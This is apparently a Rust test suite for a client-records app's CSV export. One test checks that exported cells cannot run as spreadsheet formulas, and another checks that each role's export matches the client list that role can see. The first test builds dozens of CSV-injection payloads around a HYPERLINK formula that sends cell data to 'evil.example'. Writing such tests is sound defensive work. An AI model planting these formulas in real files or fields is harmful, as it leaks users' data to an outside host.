//! F: files of clients. No cell runs in a spreadsheet, and nobody takes out whom they do not see.

use serde_json::{Value, json};
use testkit::{Answer, App, Cast, Figure, Served, Visitor};

use super::tamper;

/// What a spreadsheet, or the tool before it, may skip, or takes for the end of a cell where it is set so.
const BEFORE: [&str; 11] = ["", " ", "\u{a0}", "\u{3000}", "\"", "\t", "\r", "\n", "x;", "x\t", "x\n"];
/// What it takes for the beginning of a formula, the wide letters too.
const SIGNS: [&str; 8] = ["=", "+", "-", "@", "\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}"];
const REST: &str = "HYPERLINK(\"http://evil.example/?\"&A1,\"Open, please\")";
/// What begins like one and is none.
const HARMLESS: [&str; 4] = ["-5", "-2.50", "1-2", "O’Brien"];

fn payloads() -> Vec<String> {
    let all = BEFORE.iter().flat_map(|before| SIGNS.iter().map(move |sign| format!("{before}{sign}{REST}")));
    all.collect()
}

/// Whether some spreadsheet takes a part of it for a formula.
fn runs(cell: &str) -> bool {
    let begins = |part: &str| {
        let part = part.trim_start_matches(|letter: char| letter.is_whitespace() || letter == '"');
        SIGNS.iter().any(|sign| part.starts_with(sign))
    };
    cell.split([';', '\t', '\r', '\n']).any(begins)
}

/// A client for each text, in this order.
fn plant(app: &App, names: &[String]) {
    let row = |(place, name): (usize, &String)| {
        let name = name.replace('\'', "''");
        format!("(gen_random_uuid(), '{name}', 'Zqxf', 'zqxf {place:05}', ' zqxf ', 'active')")
    };
    let rows: Vec<String> = names.iter().enumerate().map(row).collect();
    let columns = "id, first_name, last_name, name_key, search_key, status";
    tamper(app, &format!("insert into clients ({columns}) values {}", rows.join(", ")));
}

async fn export(who: &Visitor, filter: Value, columns: &[&str]) -> Answer {
    let body =
        json!({ "of": { "filter": filter }, "columns": columns, "reason": "To see what stands in it" });
    who.post("/clients/exports", body).await
}

/// The first cell of each row, read as RFC 4180 has it, without the line over the columns.
fn cells(file: &Answer) -> Vec<String> {
    assert_eq!(file.status, 200, "{}", file.text());
    let text = file.text();
    let mut letters = text.trim_start_matches('\u{feff}').chars().peekable();
    let (mut rows, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    while let Some(letter) = letters.next() {
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => cell.extend(letters.next()),
            '"' => quoted = !quoted,
            '\r' if !quoted && letters.peek() == Some(&'\n') => {
                letters.next();
                rows.push(std::mem::take(&mut cell));
            }
            other => cell.push(other),
        }
    }
    assert!(cell.is_empty() && !quoted, "the file breaks off");
    rows.split_off(1)
}

#[actix_web::test]
async fn no_cell_of_a_file_runs_in_a_spreadsheet() {
    let app = App::start().await.unwrap();
    let cora = app.sign_in(Cast::Cora).unwrap();
    let (hostile, fine) = (payloads(), HARMLESS.map(str::to_owned).to_vec());
    plant(&app, &[hostile.clone(), fine.clone()].concat());
    let found = cells(&export(&cora, json!({ "q": "zqxf" }), &["first_name"]).await);
    assert_eq!(found.len(), hostile.len() + fine.len());
    let (made, left) = found.split_at(hostile.len());
    let run = made.iter().filter(|cell| runs(cell)).count();
    // What stands behind the apostrophes is what somebody typed, whole.
    let kept = made.iter().zip(&hostile).filter(|(cell, typed)| cell.replace('\'', "") == **typed).count();
    assert_eq!((run, kept, left), (0, hostile.len(), fine.as_slice()));
    let stored = hostile.iter().filter(|typed| runs(typed)).count();
    assert_eq!(stored, hostile.len());
    Figure {
        id: "F1",
        tried: format!(
            "{} names that are formulas, behind blanks, quotes and ends of lines; {} that only look like one",
            hostile.len(),
            fine.len()
        ),
        goal: "0 cells begin like a formula; a number below zero stays one; every text is whole",
        found: format!(
            "{run} of {}; {} of {} untouched; {kept} whole",
            hostile.len(),
            left.len(),
            fine.len()
        ),
        control: format!("as they are stored, {stored} of {} begin like a formula", hostile.len()),
    }
    .keep();
}

/// Somebody who sees María alone, and may take out whom they see.
fn with_a_caseload(app: &App) -> Visitor {
    let (role, robin) = ("0190a000-0000-7000-8000-00000000d001", "0190a000-0000-7000-8000-00000000d002");
    let maria = app.client(Served::Maria).unwrap();
    tamper(
        app,
        &format!(
            "insert into users (id, name, email) values ('{robin}', 'Robin', 'robin@example.org');
             insert into own_roles (id, name, sight, permissions)
                 values ('{role}', 'Mailer', 'caseload', '{{see_clients,see_client_details,export_records}}');
             insert into user_own_roles values ('{robin}', '{role}');
             insert into assignments (id, client_id, user_id, started_at)
                 values (gen_random_uuid(), '{maria}', '{robin}', now())"
        ),
    );
    app.sign_in_as(robin.parse().unwrap()).unwrap()
}

/// Every client that the list shows, page after page, in its order.
async fn listed(who: &Visitor) -> Vec<String> {
    let (mut all, mut next) = (Vec::new(), String::new());
    loop {
        let page = who.get(&format!("/clients?limit=100{next}")).await;
        if page.status != 200 {
            return all;
        }
        let page = page.json();
        let ids = page["items"].as_array().unwrap().iter().map(|row| row["id"].as_str().unwrap().to_owned());
        all.extend(ids);
        match page["next"].as_str() {
            Some(cursor) => next = format!("&cursor={cursor}"),
            None => return all,
        }
    }
}

#[actix_web::test]
async fn a_file_has_whom_the_list_has_for_everybody() {
    let app = App::start().await.unwrap();
    plant(&app, &(0..700).map(|n| format!("N{n}")).collect::<Vec<_>>());
    let robin = with_a_caseload(&app);
    let everyone = app.database.column("select count(*) from clients").unwrap()[0].parse::<usize>().unwrap();
    let people = Cast::ALL.iter().map(|person| app.sign_in(*person).unwrap());
    let (mut files, mut refused, mut different, mut smallest) = (0, 0, 0, everyone);
    for who in people.chain([robin]) {
        let file = export(&who, json!({}), &["id"]).await;
        if file.status == 403 {
            refused += 1;
            continue;
        }
        let (mine, shown) = (cells(&file), listed(&who).await);
        different += usize::from(mine != shown);
        smallest = smallest.min(mine.len());
        files += 1;
    }
    assert_eq!((files, different, smallest), (4, 0, 1));
    Figure {
        id: "F2",
        tried: format!("all clients as a file, as {} people of all roles and somebody with a caseload and a role of the organization's own", Cast::ALL.len()),
        goal: "rows of the file that differ from those of the list: 0",
        found: format!("{files} files, {different} differ; {refused} refused; the smallest has {smallest} row"),
        control: format!("without sight it would have {everyone}"),
    }
    .keep();
}
